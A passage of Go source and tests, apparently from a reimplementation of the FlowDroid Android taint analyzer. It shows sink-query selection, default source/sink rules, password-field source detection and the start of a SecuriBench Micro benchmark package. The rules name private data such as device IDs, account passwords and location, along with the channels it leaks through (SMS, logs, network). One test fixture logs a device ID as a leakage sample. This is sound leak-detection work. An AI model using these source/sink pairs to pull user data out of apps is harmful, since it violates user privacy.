		"c.ir": `class x.NotAService extends android.app.Activity {
			method onCreate(b: android.os.Bundle): void { return } }`,
	}
	if _, err := LoadFiles(bad); err == nil {
		t.Error("expected validation error for activity declared as service")
	}
}

func TestLoadDirAndZip(t *testing.T) {
	dir := t.TempDir()
	for p, content := range leakageApp {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	app, err := LoadDir(dir)
	if err != nil {
		t.Fatalf("LoadDir: %v", err)
	}
	if app.Package != "com.example.leakage" {
		t.Errorf("package = %q", app.Package)
	}
}

func TestManifestErrors(t *testing.T) {
	if _, err := ParseManifest([]byte(`<manifest></manifest>`)); err == nil {
		t.Error("manifest without package should fail")
	}
	if _, err := ParseManifest([]byte(`not xml`)); err == nil {
		t.Error("non-XML manifest should fail")
	}
	if _, err := ParseManifest([]byte(
		`<manifest package="p"><application><activity/></application></manifest>`)); err == nil {
		t.Error("component without name should fail")
	}
}
