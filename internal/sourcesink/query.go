package sourcesink

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"

	"flowdroid/internal/ir"
)

// This file implements sink-subset selection: the sourcesink side of the
// demand-driven query mode. A query is a set of selectors over the
// configured sink rules; restricting a manager to a query makes
// SinkAtCall answer exactly as if the whole-program answer had been
// filtered to the selected rules — the property the pipeline's
// filtered-report equivalence contract rests on.

// MatchesSelector reports whether the selector selects this sink rule.
// A selector is matched against, in order:
//
//	label            the rule's label ("sms", "log", ...)
//	Class.method     class plus method name
//	Class.method/N   class, method name and arity
//
// The "<Class: method/N>" signature syntax of the rule format is also
// accepted.
func (s Sink) MatchesSelector(sel string) bool {
	sel = strings.TrimSpace(sel)
	if sel == "" {
		return false
	}
	if s.Label != "" && sel == s.Label {
		return true
	}
	if strings.HasPrefix(sel, "<") && strings.HasSuffix(sel, ">") {
		inner := strings.TrimSpace(sel[1 : len(sel)-1])
		cls, rest, ok := strings.Cut(inner, ":")
		if !ok {
			return false
		}
		sel = strings.TrimSpace(cls) + "." + strings.TrimSpace(rest)
	}
	if sig, arity, ok := strings.Cut(sel, "/"); ok {
		return sig == s.Class+"."+s.Name && arity == fmt.Sprint(s.NArgs)
	}
	return sel == s.Class+"."+s.Name
}

// matchesAny reports whether any selector selects the sink.
func (s Sink) matchesAny(selectors []string) bool {
	for _, sel := range selectors {
		if s.MatchesSelector(sel) {
			return true
		}
	}
	return false
}

// RestrictSinks limits the manager to the sink rules the selectors match:
// SinkAtCall still resolves a statement against the full rule table (so a
// statement matched by an earlier, unselected rule stays attributed to
// that rule and is not a sink), but only selected rules produce sink
// answers. Selectors that match no configured rule are an error — a query
// against them would be silently empty. Restricting an already restricted
// manager replaces the previous restriction.
func (m *Manager) RestrictSinks(selectors []string) error {
	var missing []string
	enabled := make(map[int]bool)
	for _, sel := range selectors {
		matched := false
		for i, snk := range m.sinks {
			if snk.MatchesSelector(sel) {
				enabled[i] = true
				matched = true
			}
		}
		if !matched {
			missing = append(missing, sel)
		}
	}
	if len(missing) > 0 {
		return fmt.Errorf("sourcesink: sink selector(s) %s match no configured sink rule", strings.Join(missing, ", "))
	}
	m.enabledSinks = enabled
	return nil
}

// Restricted reports whether a sink query restricts this manager.
func (m *Manager) Restricted() bool { return m.enabledSinks != nil }

// QueriedSinks returns the sink rules a restriction enabled, in rule
// order; with no restriction it returns all sinks.
func (m *Manager) QueriedSinks() []Sink {
	if m.enabledSinks == nil {
		return m.sinks
	}
	out := make([]Sink, 0, len(m.enabledSinks))
	for i, s := range m.sinks {
		if m.enabledSinks[i] {
			out = append(out, s)
		}
	}
	return out
}

// QueryFingerprint fingerprints a selector set for artifact keying:
// selectors are deduplicated and sorted so equal queries in any order
// fingerprint identically. The empty query (all sinks) is the empty
// string, keeping whole-program artifact keys byte-identical to the
// pre-query pipeline's.
func QueryFingerprint(selectors []string) string {
	if len(selectors) == 0 {
		return ""
	}
	uniq := make([]string, 0, len(selectors))
	seen := make(map[string]bool)
	for _, s := range selectors {
		s = strings.TrimSpace(s)
		if s == "" || seen[s] {
			continue
		}
		seen[s] = true
		uniq = append(uniq, s)
	}
	if len(uniq) == 0 {
		return ""
	}
	sort.Strings(uniq)
	h := sha256.New()
	for _, s := range uniq {
		h.Write([]byte(s))
		h.Write([]byte{0})
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// PotentialSourceAt reports whether the statement could be recognized as
// a source by SourceAtCall under some widget assignment. It
// over-approximates the layout-source dataflow (any getText() call is
// potential when the app has password controls at all), so the cone pass
// can classify statements without running the lazy per-method widget
// analysis.
func (m *Manager) PotentialSourceAt(s ir.Stmt) bool {
	call := ir.CallOf(s)
	if call == nil {
		return false
	}
	cls := receiverClass(call)
	for _, src := range m.sources {
		if src.Param != Return {
			continue
		}
		if src.Name == call.Ref.Name && src.NArgs == call.Ref.NArgs && m.classMatches(cls, src.Class) {
			return true
		}
	}
	return call.Ref.Name == "getText" && call.Ref.NArgs == 0 && call.Base != nil && len(m.pwdIDs) > 0
}
