package sourcesink

import (
	"strings"
	"testing"

	"flowdroid/internal/ir"
)

func TestMatchesSelector(t *testing.T) {
	snk := Sink{Label: "sms", Class: "android.telephony.SmsManager", Name: "sendTextMessage", NArgs: 5}
	for _, sel := range []string{
		"sms",
		"android.telephony.SmsManager.sendTextMessage",
		"android.telephony.SmsManager.sendTextMessage/5",
		"<android.telephony.SmsManager: sendTextMessage/5>",
		"  sms  ", // selectors are trimmed
	} {
		if !snk.MatchesSelector(sel) {
			t.Errorf("selector %q should match %v", sel, snk)
		}
	}
	for _, sel := range []string{
		"",
		"log",
		"android.telephony.SmsManager.sendTextMessage/4",
		"android.telephony.SmsManager.sendDataMessage",
		"<android.telephony.SmsManager>",
	} {
		if snk.MatchesSelector(sel) {
			t.Errorf("selector %q should not match %v", sel, snk)
		}
	}
}

func TestRestrictSinks(t *testing.T) {
	m, err := Parse(ir.NewProgram(), `
sink <a.A: one/1> -> arg0 label out
sink <a.B: two/1> -> arg0 label out
sink <a.C: three/1> -> arg0 label other
`)
	if err != nil {
		t.Fatal(err)
	}
	if m.Restricted() {
		t.Fatal("fresh manager should not be restricted")
	}
	if got := len(m.QueriedSinks()); got != 3 {
		t.Fatalf("unrestricted QueriedSinks = %d rules, want all 3", got)
	}

	// A label selector enables every rule carrying it.
	if err := m.RestrictSinks([]string{"out"}); err != nil {
		t.Fatal(err)
	}
	if !m.Restricted() {
		t.Fatal("manager should be restricted")
	}
	if got := len(m.QueriedSinks()); got != 2 {
		t.Fatalf("query [out] enabled %d rules, want 2", got)
	}

	// Re-restricting replaces, not intersects.
	if err := m.RestrictSinks([]string{"a.C.three/1"}); err != nil {
		t.Fatal(err)
	}
	if got := m.QueriedSinks(); len(got) != 1 || got[0].Label != "other" {
		t.Fatalf("query [a.C.three/1] enabled %v, want the one 'other' rule", got)
	}

	// Unknown selectors are an error naming each offender — a query
	// against them would be silently empty.
	err = m.RestrictSinks([]string{"out", "nope", "also-nope"})
	if err == nil {
		t.Fatal("unknown selectors should be rejected")
	}
	if !strings.Contains(err.Error(), "nope") || !strings.Contains(err.Error(), "also-nope") {
		t.Errorf("error %q does not name the unknown selectors", err)
	}
}

func TestQueryFingerprintNormalization(t *testing.T) {
	a := QueryFingerprint([]string{"sms", "log"})
	b := QueryFingerprint([]string{" log ", "sms", "sms"})
	if a == "" || a != b {
		t.Errorf("order/dup/space-insensitive queries fingerprint %q vs %q", a, b)
	}
	if c := QueryFingerprint([]string{"sms"}); c == a {
		t.Error("distinct queries share a fingerprint")
	}
	if QueryFingerprint(nil) != "" || QueryFingerprint([]string{" ", ""}) != "" {
		t.Error("the empty query must fingerprint to the empty string")
	}
}
