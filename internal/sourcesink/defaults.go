package sourcesink

// DefaultRules is the built-in Android source/sink configuration, a
// distilled version of the SuSi-derived lists FlowDroid ships with.
//
// Note what is deliberately absent, mirroring the paper's configuration:
// Activity.setResult is NOT a sink — tainted data handed back to the
// calling activity through a result intent flows through the framework,
// which is exactly why FlowDroid misses DroidBench's IntentSink1.
const DefaultRules = `
# ------------------------------------------------------------ sources
# Unique identifiers.
source <android.telephony.TelephonyManager: getDeviceId/0> -> return label device-id
source <android.telephony.TelephonyManager: getSimSerialNumber/0> -> return label sim-serial
source <android.telephony.TelephonyManager: getSubscriberId/0> -> return label subscriber-id
source <android.telephony.TelephonyManager: getLine1Number/0> -> return label phone-number

# Location data.
source <android.location.LocationManager: getLastKnownLocation/1> -> return label location
source <android.location.Location: getLatitude/0> -> return label latitude
source <android.location.Location: getLongitude/0> -> return label longitude
source <android.location.LocationListener: onLocationChanged/1> -> param0 label location-callback

# Account data.
source <android.accounts.AccountManager: getPassword/1> -> return label account-password

# Inter-component communication: received intents are sources. (Reading
# extras from an intent the app built itself is covered by the taint
# wrapper instead, so getStringExtra is not itself a source.)
source <android.app.Activity: getIntent/0> -> return label incoming-intent
source <android.content.BroadcastReceiver: onReceive/2> -> param1 label broadcast-intent

# Stored preferences can hold private data written earlier.
source <android.content.SharedPreferences: getString/2> -> return label preference

# ------------------------------------------------------------ sinks
# SMS.
sink <android.telephony.SmsManager: sendTextMessage/5> -> arg0, arg2 label sms

# Logging (readable by other apps before Android 4.1).
sink <android.util.Log: v/2> -> arg1 label log
sink <android.util.Log: d/2> -> arg1 label log
sink <android.util.Log: i/2> -> arg1 label log
sink <android.util.Log: w/2> -> arg1 label log
sink <android.util.Log: e/2> -> arg1 label log

# Network.
sink <java.net.URL: init/1> -> arg0 label url
sink <java.io.OutputStream: write/1> -> arg0 label network-write
sink <java.io.Writer: write/1> -> arg0 label writer
sink <java.net.URLConnection: setRequestProperty/2> -> arg1 label http-header

# Files and preferences.
sink <android.content.SharedPreferences$Editor: putString/2> -> arg1 label preferences

# Inter-component communication: sent intents are sinks.
sink <android.content.Context: sendBroadcast/1> -> arg0 label broadcast
sink <android.content.Context: startActivity/1> -> arg0 label start-activity
sink <android.content.Context: startService/1> -> arg0 label start-service
`
