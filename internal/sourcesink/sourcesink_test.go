package sourcesink

import (
	"strings"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
)

func TestParseRules(t *testing.T) {
	prog := framework.NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	m, err := Parse(prog, `
# comment
source <a.B: getSecret/0> -> return label secret
source <a.C: onEvent/2> -> param1
sink <a.D: leak/3> -> arg0, arg2
sink <a.E: leakAll/2> -> all
`)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Sources()) != 2 || len(m.Sinks()) != 2 {
		t.Fatalf("parsed %d sources, %d sinks", len(m.Sources()), len(m.Sinks()))
	}
	s0 := m.Sources()[0]
	if s0.Class != "a.B" || s0.Name != "getSecret" || s0.Param != Return || s0.Label != "secret" {
		t.Errorf("source 0 = %+v", s0)
	}
	if m.Sources()[1].Param != 1 {
		t.Errorf("source 1 param = %d", m.Sources()[1].Param)
	}
	k0 := m.Sinks()[0]
	if len(k0.Args) != 2 || k0.Args[0] != 0 || k0.Args[1] != 2 {
		t.Errorf("sink 0 args = %v", k0.Args)
	}
	if m.Sinks()[1].Args != nil {
		t.Errorf("sink 1 should leak all args")
	}
	// Round trip through String.
	if got := s0.String(); !strings.Contains(got, "<a.B: getSecret/0> -> return") {
		t.Errorf("source String = %q", got)
	}
	if got := k0.String(); !strings.Contains(got, "arg0, arg2") {
		t.Errorf("sink String = %q", got)
	}
}

func TestParseErrors(t *testing.T) {
	prog := ir.NewProgram()
	for _, bad := range []string{
		"frobnicate <a.B: x/0> -> return",
		"source a.B.x -> return",
		"source <a.B: x> -> return",
		"source <a.B: x/0> -> arg0",
		"sink <a.B: x/0> -> bogus",
	} {
		if _, err := Parse(prog, bad); err == nil {
			t.Errorf("rule %q should not parse", bad)
		}
	}
}

const appSrc = `
class com.x.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    tmRaw = this.getSystemService("phone")
    local tm: android.telephony.TelephonyManager
    tm = (android.telephony.TelephonyManager) tmRaw
    id = tm.getDeviceId()
    android.util.Log.i("tag", id)
    return
  }
  method readPwd(): void {
    w = this.findViewById(@id/pwd)
    local et: android.widget.EditText
    et = (android.widget.EditText) w
    p = et.getText()
    o = this.findViewById(@id/plain)
    local ot: android.widget.EditText
    ot = (android.widget.EditText) o
    q = ot.getText()
    return
  }
}
`

func loadTestApp(t *testing.T) *apk.App {
	t.Helper()
	app, err := apk.LoadFiles(map[string]string{
		"AndroidManifest.xml": `<manifest package="com.x"><application>
			<activity android:name=".Main"/></application></manifest>`,
		"res/layout/main.xml": `<LinearLayout>
			<EditText android:id="@+id/pwd" android:inputType="textPassword"/>
			<EditText android:id="@+id/plain" android:inputType="text"/>
		</LinearLayout>`,
		"classes.ir": appSrc,
	})
	if err != nil {
		t.Fatal(err)
	}
	return app
}

func findCall(m *ir.Method, name string, skip int) ir.Stmt {
	for _, s := range m.Body() {
		if c := ir.CallOf(s); c != nil && c.Ref.Name == name {
			if skip == 0 {
				return s
			}
			skip--
		}
	}
	return nil
}

func TestDefaultSourcesAndSinks(t *testing.T) {
	app := loadTestApp(t)
	m := Default(app.Program)
	m.AttachApp(app)
	onCreate := app.Program.Class("com.x.Main").Method("onCreate", 1)

	src, ok := m.SourceAtCall(findCall(onCreate, "getDeviceId", 0))
	if !ok || src.Label != "device-id" {
		t.Errorf("getDeviceId should be a source, got %+v ok=%v", src, ok)
	}
	snk, args, ok := m.SinkAtCall(findCall(onCreate, "i", 0))
	if !ok || snk.Label != "log" {
		t.Fatalf("Log.i should be a sink, got ok=%v", ok)
	}
	if len(args) != 1 || args[0] != 1 {
		t.Errorf("Log.i leaking args = %v, want [1]", args)
	}
	if _, ok := m.SourceAtCall(findCall(onCreate, "getSystemService", 0)); ok {
		t.Error("getSystemService must not be a source")
	}
}

func TestLayoutPasswordSource(t *testing.T) {
	app := loadTestApp(t)
	m := Default(app.Program)
	m.AttachApp(app)
	readPwd := app.Program.Class("com.x.Main").Method("readPwd", 0)

	// getText on the password widget (reached through a cast) is a source.
	src, ok := m.SourceAtCall(findCall(readPwd, "getText", 0))
	if !ok || src.Label != "password-field" {
		t.Errorf("password getText should be a source, got %+v ok=%v", src, ok)
	}
	// getText on the plain-text widget is not.
	if _, ok := m.SourceAtCall(findCall(readPwd, "getText", 1)); ok {
		t.Error("plain-text getText must not be a source")
	}
}

func TestParamSources(t *testing.T) {
	prog := framework.NewProgram()
	cb := ir.NewClassIn(prog, "com.x.Listener", "").
		Implements("android.location.LocationListener")
	mb := cb.Method("onLocationChanged", ir.Void)
	mb.Param("loc", ir.Ref("android.location.Location"))
	mb.Return(nil)
	mb.Done()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	m := Default(prog)
	method := prog.Class("com.x.Listener").Method("onLocationChanged", 1)
	srcs := m.ParamSources(method)
	if len(srcs) != 1 || srcs[0].Param != 0 {
		t.Errorf("ParamSources = %+v, want the location-callback param0", srcs)
	}
	// A random method must have none.
	other := ir.NewMethod("helper", ir.Void, true)
	other.Class = prog.Class("com.x.Listener")
	if len(m.ParamSources(other)) != 0 {
		t.Error("helper should have no param sources")
	}
}

func TestSetResultIsNotASink(t *testing.T) {
	// Mirrors the paper: result intents flow through the framework, so
	// setResult is intentionally absent from the sink list (IntentSink1
	// is missed).
	prog := framework.NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	m := Default(prog)
	for _, s := range m.Sinks() {
		if s.Name == "setResult" {
			t.Error("setResult must not be configured as a sink")
		}
	}
}

func TestAddSourceAddSink(t *testing.T) {
	prog := framework.NewProgram()
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	m := NewManager(prog, nil, nil)
	m.AddSource(Source{Class: "a.B", Name: "sec", NArgs: 0, Param: Return, Label: "x"})
	m.AddSink(Sink{Class: "a.C", Name: "out", NArgs: 1, Args: []int{0}, Label: "y"})
	if len(m.Sources()) != 1 || len(m.Sinks()) != 1 {
		t.Error("Add* did not register rules")
	}
}
