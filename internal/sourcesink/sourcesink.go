// Package sourcesink manages taint sources and sinks: the stand-in for
// FlowDroid's SuSi-derived source/sink configuration. Sources and sinks
// are declared in a simple textual format; in addition, the manager
// derives layout sources (password input fields read through
// findViewById/getText) from the app's layout XML models, which cannot be
// recognized from code alone.
package sourcesink

import (
	"bufio"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"

	"flowdroid/internal/apk"
	"flowdroid/internal/ir"
)

// Return designates the return value in a source spec.
const Return = -1

// Source declares a method whose return value (Param == Return) or whose
// parameter (Param >= 0, for framework callbacks such as
// onLocationChanged) carries sensitive data.
type Source struct {
	Class string
	Name  string
	NArgs int
	Param int
	// Label describes the data, e.g. "device-id" or "password-field".
	Label string
}

// String renders the source in the configuration syntax.
func (s Source) String() string {
	what := "return"
	if s.Param >= 0 {
		what = fmt.Sprintf("param%d", s.Param)
	}
	return fmt.Sprintf("source <%s: %s/%d> -> %s", s.Class, s.Name, s.NArgs, what)
}

// Sink declares a method whose listed arguments (nil = all arguments)
// leak data out of the app.
type Sink struct {
	Class string
	Name  string
	NArgs int
	Args  []int // nil means every argument
	Label string
}

// String renders the sink in the configuration syntax.
func (s Sink) String() string {
	what := "all"
	if s.Args != nil {
		parts := make([]string, len(s.Args))
		for i, a := range s.Args {
			parts[i] = fmt.Sprintf("arg%d", a)
		}
		what = strings.Join(parts, ", ")
	}
	return fmt.Sprintf("sink <%s: %s/%d> -> %s", s.Class, s.Name, s.NArgs, what)
}

// Manager answers "is this call a source/sink?" queries for the taint
// analysis. Queries are safe for concurrent use (the taint engine calls
// them from worker goroutines); configuration — AttachApp, AddSource,
// AddSink — must happen before analysis starts.
type Manager struct {
	prog    ir.Hierarchy
	sources []Source
	sinks   []Sink

	// enabledSinks, when non-nil, restricts sink answers to the listed
	// rule indices (RestrictSinks); nil means every rule answers. A
	// statement is still resolved against the full table first, so a
	// restricted manager behaves exactly like the unrestricted one with
	// its answers filtered to the enabled rules.
	enabledSinks map[int]bool

	// widgetMu guards the lazily-populated widget maps below: the
	// per-method password-widget dataflow runs on first query at solve
	// time, so concurrent SourceAtCall calls race on it without the lock.
	widgetMu sync.Mutex
	// passwordWidget marks locals that hold password-field widgets
	// (per-method dataflow from findViewById with a password control id).
	passwordWidget map[*ir.Local]bool
	analyzed       map[*ir.Method]bool
	pwdIDs         map[int64]bool
}

// NewManager creates a manager over a program model with the given
// rules. Pass a scene.Scene to answer the subtype checks of rule
// matching from its precomputed sets.
func NewManager(prog ir.Hierarchy, sources []Source, sinks []Sink) *Manager {
	return &Manager{
		prog:           prog,
		sources:        sources,
		sinks:          sinks,
		passwordWidget: make(map[*ir.Local]bool),
		analyzed:       make(map[*ir.Method]bool),
		pwdIDs:         make(map[int64]bool),
	}
}

// Default creates a manager with the built-in Android source/sink rules.
func Default(prog ir.Hierarchy) *Manager {
	m, err := Parse(prog, DefaultRules)
	if err != nil {
		panic("sourcesink: built-in rules do not parse: " + err.Error())
	}
	return m
}

// AttachApp registers the app's layout model so that password input
// fields become sources. Must be called before analysis for layout
// sources to be recognized.
func (m *Manager) AttachApp(app *apk.App) {
	for _, l := range app.Layouts {
		for _, c := range l.PasswordControls() {
			if id, ok := app.Res.Lookup("id/" + c.ID); ok {
				m.pwdIDs[id] = true
			}
		}
	}
}

// Sources returns the configured sources.
func (m *Manager) Sources() []Source { return m.sources }

// Sinks returns the configured sinks.
func (m *Manager) Sinks() []Sink { return m.sinks }

// AddSource appends a source rule.
func (m *Manager) AddSource(s Source) { m.sources = append(m.sources, s) }

// AddSink appends a sink rule.
func (m *Manager) AddSink(s Sink) { m.sinks = append(m.sinks, s) }

// receiverClass determines the best static class name for matching an
// invocation against the rule tables.
func receiverClass(e *ir.InvokeExpr) string {
	if e.Kind == ir.VirtualInvoke && e.Base != nil && e.Base.Type.IsRef() {
		return e.Base.Type.Name
	}
	return e.Ref.Class
}

// classMatches reports whether a call on cls can match a rule declared on
// ruleCls: equal names, subtype (call through a subclass), or supertype
// (rule on the implementing class, call through the interface).
func (m *Manager) classMatches(cls, ruleCls string) bool {
	if cls == ruleCls {
		return true
	}
	if cls == "" || ruleCls == "" {
		return false
	}
	return m.prog.SubtypeOf(cls, ruleCls) || m.prog.SubtypeOf(ruleCls, cls)
}

// SourceAtCall reports whether the call statement s invokes a source
// whose return value is tainted, returning its label.
func (m *Manager) SourceAtCall(s ir.Stmt) (Source, bool) {
	call := ir.CallOf(s)
	if call == nil {
		return Source{}, false
	}
	cls := receiverClass(call)
	for _, src := range m.sources {
		if src.Param != Return {
			continue
		}
		if src.Name == call.Ref.Name && src.NArgs == call.Ref.NArgs && m.classMatches(cls, src.Class) {
			return src, true
		}
	}
	// Layout source: getText() on a password widget.
	if call.Ref.Name == "getText" && call.Ref.NArgs == 0 && call.Base != nil {
		m.widgetMu.Lock()
		m.ensureWidgets(s.Method())
		isPwd := m.passwordWidget[call.Base]
		m.widgetMu.Unlock()
		if isPwd {
			return Source{
				Class: cls, Name: "getText", NArgs: 0, Param: Return,
				Label: "password-field",
			}, true
		}
	}
	return Source{}, false
}

// ParamSources returns the tainted parameter indices when method is a
// framework callback whose parameters carry sensitive data (e.g.
// LocationListener.onLocationChanged).
func (m *Manager) ParamSources(method *ir.Method) []Source {
	var out []Source
	for _, src := range m.sources {
		if src.Param < 0 || src.Param >= len(method.Params) {
			continue
		}
		if src.Name != method.Name || src.NArgs != len(method.Params) {
			continue
		}
		if m.classMatches(method.Class.Name, src.Class) {
			out = append(out, src)
		}
	}
	return out
}

// SinkAtCall reports whether s invokes a sink, returning the sink rule
// and the indices of the leaking arguments.
func (m *Manager) SinkAtCall(s ir.Stmt) (Sink, []int, bool) {
	call := ir.CallOf(s)
	if call == nil {
		return Sink{}, nil, false
	}
	cls := receiverClass(call)
	for i, snk := range m.sinks {
		if snk.Name == call.Ref.Name && snk.NArgs == call.Ref.NArgs && m.classMatches(cls, snk.Class) {
			if m.enabledSinks != nil && !m.enabledSinks[i] {
				// The first matching rule is not part of the query: the
				// statement is not a sink under this restriction (the
				// whole-program run would attribute it to this rule, and
				// filtering that report to the query drops it).
				return Sink{}, nil, false
			}
			args := snk.Args
			if args == nil {
				args = make([]int, len(call.Args))
				for i := range args {
					args[i] = i
				}
			}
			return snk, args, true
		}
	}
	return Sink{}, nil, false
}

// ensureWidgets runs the per-method password-widget dataflow once: a
// local is a password widget if it is assigned from findViewById with a
// password control id, possibly through copies and casts. Callers hold
// m.widgetMu.
func (m *Manager) ensureWidgets(method *ir.Method) {
	if method == nil || m.analyzed[method] || len(m.pwdIDs) == 0 {
		return
	}
	m.analyzed[method] = true
	for changed := true; changed; {
		changed = false
		for _, s := range method.Body() {
			a, ok := s.(*ir.AssignStmt)
			if !ok {
				continue
			}
			lhs, ok := a.LHS.(*ir.Local)
			if !ok || m.passwordWidget[lhs] {
				continue
			}
			mark := false
			switch rhs := a.RHS.(type) {
			case *ir.InvokeExpr:
				if rhs.Ref.Name == "findViewById" && len(rhs.Args) == 1 {
					if id, ok := apk.ConstID(rhs.Args[0]); ok && m.pwdIDs[id] {
						mark = true
					}
				}
			case *ir.Local:
				mark = m.passwordWidget[rhs]
			case *ir.Cast:
				if x, ok := rhs.X.(*ir.Local); ok {
					mark = m.passwordWidget[x]
				}
			}
			if mark {
				m.passwordWidget[lhs] = true
				changed = true
			}
		}
	}
}

// Parse reads source/sink rules in the textual configuration format:
//
//	source <android.telephony.TelephonyManager: getDeviceId/0> -> return
//	source <android.location.LocationListener: onLocationChanged/1> -> param0
//	sink   <android.telephony.SmsManager: sendTextMessage/5> -> arg0, arg2
//	sink   <android.util.Log: i/2> -> all
//
// Lines starting with # and blank lines are ignored. An optional trailing
// "label NAME" names the rule.
func Parse(prog ir.Hierarchy, text string) (*Manager, error) {
	m := NewManager(prog, nil, nil)
	sc := bufio.NewScanner(strings.NewReader(text))
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		kind, rest, ok := strings.Cut(line, " ")
		if !ok || (kind != "source" && kind != "sink") {
			return nil, fmt.Errorf("sourcesink: line %d: expected 'source' or 'sink'", lineNo)
		}
		cls, name, nargs, what, label, err := parseRule(rest)
		if err != nil {
			return nil, fmt.Errorf("sourcesink: line %d: %v", lineNo, err)
		}
		if kind == "source" {
			param := Return
			if strings.HasPrefix(what, "param") {
				param, err = strconv.Atoi(strings.TrimPrefix(what, "param"))
				if err != nil {
					return nil, fmt.Errorf("sourcesink: line %d: bad param index %q", lineNo, what)
				}
			} else if what != "return" {
				return nil, fmt.Errorf("sourcesink: line %d: source target must be 'return' or 'paramN'", lineNo)
			}
			m.sources = append(m.sources, Source{Class: cls, Name: name, NArgs: nargs, Param: param, Label: label})
			continue
		}
		var args []int
		if what != "all" {
			for _, part := range strings.Split(what, ",") {
				part = strings.TrimSpace(part)
				idx, err := strconv.Atoi(strings.TrimPrefix(part, "arg"))
				if err != nil || !strings.HasPrefix(part, "arg") {
					return nil, fmt.Errorf("sourcesink: line %d: bad sink argument %q", lineNo, part)
				}
				args = append(args, idx)
			}
			sort.Ints(args)
		}
		m.sinks = append(m.sinks, Sink{Class: cls, Name: name, NArgs: nargs, Args: args, Label: label})
	}
	return m, sc.Err()
}

// parseRule parses "<Class: name/nargs> -> what [label NAME]".
func parseRule(s string) (cls, name string, nargs int, what, label string, err error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "<") {
		return "", "", 0, "", "", fmt.Errorf("expected '<Class: method/arity>', got %q", s)
	}
	end := strings.Index(s, ">")
	if end < 0 {
		return "", "", 0, "", "", fmt.Errorf("unterminated '<...>' in %q", s)
	}
	sig := s[1:end]
	rest := strings.TrimSpace(s[end+1:])
	clsPart, methodPart, ok := strings.Cut(sig, ":")
	if !ok {
		return "", "", 0, "", "", fmt.Errorf("missing ':' in signature %q", sig)
	}
	cls = strings.TrimSpace(clsPart)
	namePart, arityPart, ok := strings.Cut(strings.TrimSpace(methodPart), "/")
	if !ok {
		return "", "", 0, "", "", fmt.Errorf("missing '/arity' in signature %q", sig)
	}
	name = strings.TrimSpace(namePart)
	nargs, err = strconv.Atoi(strings.TrimSpace(arityPart))
	if err != nil {
		return "", "", 0, "", "", fmt.Errorf("bad arity in signature %q", sig)
	}
	if !strings.HasPrefix(rest, "->") {
		return "", "", 0, "", "", fmt.Errorf("missing '->' in rule")
	}
	rest = strings.TrimSpace(strings.TrimPrefix(rest, "->"))
	if i := strings.Index(rest, " label "); i >= 0 {
		label = strings.TrimSpace(rest[i+len(" label "):])
		rest = strings.TrimSpace(rest[:i])
	}
	what = rest
	return cls, name, nargs, what, label, nil
}
