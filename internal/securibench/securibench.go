// Package securibench re-implements the evaluated subset of Stanford
// SecuriBench Micro (Section 6.4, Table 2 of the paper): J2EE
// servlet-style micro benchmarks across the nine categories the paper
// scores — Aliasing, Arrays, Basic, Collections, Datastructure, Factory,
// Inter, Session and StrongUpdates (121 expected leaks in total). The
// categories the paper omits (Pred, Reflection, Sanitizer) are omitted
// here too.
//
// Unlike DroidBench there is no Android lifecycle: each case's doGet
// methods are the entry points, and the source/sink configuration is the
// servlet API (request parameters in, response writer out), supplied
// manually exactly as the paper describes.
package securibench

import (
	"context"
	"fmt"
	"sort"
	"strings"

	"flowdroid/internal/core"
	"flowdroid/internal/ir"
	"flowdroid/internal/taint"
)

// servletStubs is the J2EE API model the cases link against.
const servletStubs = `
class javax.servlet.http.HttpServlet {
  method init(): void;
}
class javax.servlet.http.HttpServletRequest {
  method getParameter(name: java.lang.String): java.lang.String;
  method getHeader(name: java.lang.String): java.lang.String;
  method getParameterValues(name: java.lang.String): java.lang.String[];
  method getSession(): javax.servlet.http.HttpSession;
  method getCookies(): javax.servlet.http.Cookie[];
}
class javax.servlet.http.HttpServletResponse {
  method getWriter(): java.io.PrintWriter;
}
class javax.servlet.http.HttpSession {
  method setAttribute(k: java.lang.String, v: java.lang.Object): void;
  method getAttribute(k: java.lang.String): java.lang.Object;
}
class javax.servlet.http.Cookie {
  method init(k: java.lang.String, v: java.lang.String): void;
  method getValue(): java.lang.String;
  method getName(): java.lang.String;
}
`

// rules is the manually supplied source/sink configuration (RQ4).
const rules = `
source <javax.servlet.http.HttpServletRequest: getParameter/1> -> return label web
source <javax.servlet.http.HttpServletRequest: getHeader/1> -> return label web
source <javax.servlet.http.HttpServletRequest: getParameterValues/1> -> return label web
source <javax.servlet.http.Cookie: getValue/0> -> return label cookie
sink <java.io.PrintWriter: println/1> -> arg0 label response
sink <java.io.PrintWriter: print/1> -> arg0 label response
`

// extraWrapperRules extends the default shortcut table with the servlet
// session API.
const extraWrapperRules = `
wrap <javax.servlet.http.HttpSession: setAttribute/2> arg1 -> base
wrap <javax.servlet.http.HttpSession: getAttribute/1> base -> return
`

// Case is one micro benchmark.
type Case struct {
	Name     string
	Category string
	// ExpectedLeaks is the ground truth.
	ExpectedLeaks int
	// FlowDroidFinds is the number of leaks our configuration reports,
	// per the Table 2 reproduction (TP = min, FP = surplus).
	FlowDroidFinds int
	// Source is the case's IR code (servlet classes).
	Source string
	Note   string
}

var registry []Case

func register(c Case) { registry = append(registry, c) }

// Cases returns all cases grouped by category in Table 2 order.
func Cases() []Case {
	order := map[string]int{}
	for i, c := range CategoryOrder {
		order[c] = i
	}
	out := append([]Case(nil), registry...)
	sort.SliceStable(out, func(i, j int) bool {
		return order[out[i].Category] < order[out[j].Category]
	})
	return out
}

// CategoryOrder lists the Table 2 categories in row order.
var CategoryOrder = []string{
